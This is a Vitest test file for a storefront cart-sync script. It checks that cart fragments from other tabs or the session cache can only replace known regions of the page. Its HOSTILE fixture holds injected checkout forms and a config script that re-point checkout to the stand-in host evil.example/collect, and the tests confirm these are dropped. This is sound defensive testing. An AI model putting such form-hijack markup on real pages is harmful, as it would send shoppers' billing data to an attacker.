// @vitest-environment happy-dom
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { CART_STATE_SELECTOR, cartStateMarkup, emptyCart } from '@vitrine/contract';
import { CACHE_KEY, applyServerFragments, resetCartSyncForTests, startCartSync } from './cart-sync.ts';
import { parseConfig, setConfig } from './config.ts';
import { forgetLearnedSelectorsForTests, knownFragments } from './fragment-selectors.ts';

/**
 * Fragments that come from outside this page's own calls (another tab's message, this tab's session cache: any
 * script of the origin can write them) name only the regions Vitrine knows. A same-origin page could otherwise
 * re-aim the checkout form of every open tab with one message.
 */

const MINI_CART = 'div.widget_shopping_cart_content';
const HOSTILE = {
  'form.checkout': '<form class="checkout" action="https://evil.example/collect"><input name="x"></form>',
  'form[name="checkout"]': '<form name="checkout" action="https://evil.example/collect"></form>',
  'body > *': '<p>tout remplacé</p>',
  '#vitrine-config': '<script type="application/json" id="vitrine-config">{"urls":{"checkout":"https://evil.example/"}}</script>',
};

describe('knownFragments', () => {
  afterEach(() => forgetLearnedSelectorsForTests());

  it('keeps the mini cart and the cart snapshot, drops any other selector', () => {
    const fragments = { [MINI_CART]: '<div>a</div>', [CART_STATE_SELECTOR]: '<script></script>', ...HOSTILE };
    expect(knownFragments(fragments)).toEqual({
      fragments: { [MINI_CART]: '<div>a</div>', [CART_STATE_SELECTOR]: '<script></script>' },
      dropped: Object.keys(HOSTILE),
    });
  });

  it('keeps what the shop itself sent this page (a theme’s header count), compared as the exact text', () => {
    applyServerFragments({ 'a.cart-contents': '<a class="cart-contents">2</a>' }, 'h');
    expect(knownFragments({ 'a.cart-contents': 'x', 'a.cart-contents ': 'y', 'A.cart-contents': 'z' })).toEqual({
      fragments: { 'a.cart-contents': 'x' },
      dropped: ['a.cart-contents ', 'A.cart-contents'],
    });
  });
});

describe('cart data from outside the page names only known regions', () => {
  const asked: string[] = [];
  const page = `${cartStateMarkup(emptyCart())}
    <div class="widget_shopping_cart_content">avant</div>
    <a class="cart-contents">0</a>
    <form class="checkout" name="checkout" action="/checkout/"><input name="billing_email"></form>`;

  beforeEach(() => {
    asked.length = 0;
    setConfig(parseConfig({}));
    vi.stubGlobal('fetch', (url: string) => {
      asked.push(url);
      return Promise.resolve(new Response(JSON.stringify({ fragments: {}, cart_hash: 'from-shop' })));
    });
    document.body.innerHTML = page;
  });
  afterEach(() => {
    resetCartSyncForTests();
    forgetLearnedSelectorsForTests();
    vi.unstubAllGlobals();
    setConfig(undefined);
    sessionStorage.clear();
    document.body.innerHTML = '';
  });

  const checkoutAction = () => document.querySelector('form.checkout')?.getAttribute('action');

  it('from another tab: the mini cart follows, the checkout form keeps its action, and the shop is asked once', async () => {
    startCartSync();
    const other = new BroadcastChannel('vitrine-cart');
    other.postMessage({ hash: 'other-tab', fragments: { ...HOSTILE, [MINI_CART]: '<div class="widget_shopping_cart_content">après</div>' } });
    await vi.waitFor(() => expect(document.querySelector('.widget_shopping_cart_content')?.textContent).toBe('après'));
    expect(checkoutAction()).toBe('/checkout/');
    expect(document.querySelector('form.checkout input[name="billing_email"]')).not.toBeNull();
    // What it could not replay comes from the shop instead.
    await vi.waitFor(() => expect(asked).toEqual(['/?wc-ajax=get_refreshed_fragments']));
    other.close();
  });

  it('from another tab: a theme’s region is replayed once the shop has sent it to this page', async () => {
    startCartSync();
    applyServerFragments({ 'a.cart-contents': '<a class="cart-contents">1</a>' }, 'mine');
    const other = new BroadcastChannel('vitrine-cart');
    other.postMessage({ hash: 'other-tab', fragments: { 'a.cart-contents': '<a class="cart-contents">3</a>' } });
    await vi.waitFor(() => expect(document.querySelector('.cart-contents')?.textContent).toBe('3'));
    await new Promise((r) => setTimeout(r, 20));
    expect(asked).toEqual([]);
    other.close();
  });

  it('from the session cache on load: foreign selectors are dropped and the shop is asked', async () => {
    sessionStorage.setItem(
      CACHE_KEY,
      JSON.stringify({ hash: '', created: Date.now(), fragments: { ...HOSTILE, [MINI_CART]: '<div class="widget_shopping_cart_content">cache</div>' } }),
    );
    // The page's snapshot is stale (its hash is not the cookie's), so the cache is what the page would replay.
    document.body.innerHTML = page.replace(cartStateMarkup(emptyCart()), cartStateMarkup({ ...emptyCart(), hash: 'stale' }));
    startCartSync();
    expect(document.querySelector('.widget_shopping_cart_content')?.textContent).toBe('cache');
    expect(checkoutAction()).toBe('/checkout/');
    await vi.waitFor(() => expect(asked).toEqual(['/?wc-ajax=get_refreshed_fragments']));
  });
});
